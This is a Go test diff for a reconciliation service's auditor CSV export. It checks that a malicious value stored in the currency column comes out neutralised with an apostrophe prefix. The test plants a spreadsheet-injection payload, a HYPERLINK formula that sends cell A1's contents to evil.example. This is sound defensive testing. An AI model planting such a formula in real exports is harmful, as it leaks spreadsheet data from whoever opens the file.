@@ -60,3 +60,32 @@ func TestDivergencesCSVNeutralisesTheStatementsCurrency_R19(t *testing.T) {
 	}
 	require.Empty(t, bad, "the statement's currency reaches the auditor's export as a formula")
 }
+
+// The export neutralises the currency column itself: rows stored before
+// reconciliation refused a statement line whose currency is not one saldo
+// knows (unreadable_line, R19) may hold one (as this row's does).
+func TestDivergencesCSVNeutralisesAStoredCurrency_R19(t *testing.T) {
+	t.Parallel()
+	e := reconcileEnv(t)
+	id, _ := plantUnknownToUs(t, e, strings.Repeat("ef", 16))
+	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"open")`
+	_, err := e.pool.Exec(e.ctx, `UPDATE reconcile_divergences SET currency = $2 WHERE id = $1`, id, evil)
+	require.NoError(t, err)
+
+	r := e.get("/v1/reconcile/divergences.csv", e.auditor)
+	require.Equal(t, http.StatusOK, r.Status)
+	rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
+	require.NoError(t, err)
+	col := -1
+	for i, h := range rows[0] {
+		if h == "currency" {
+			col = i
+		}
+	}
+	require.GreaterOrEqual(t, col, 0)
+	var cells []string
+	for _, row := range rows[1:] {
+		cells = append(cells, row[col])
+	}
+	require.Contains(t, cells, "'"+evil)
+}
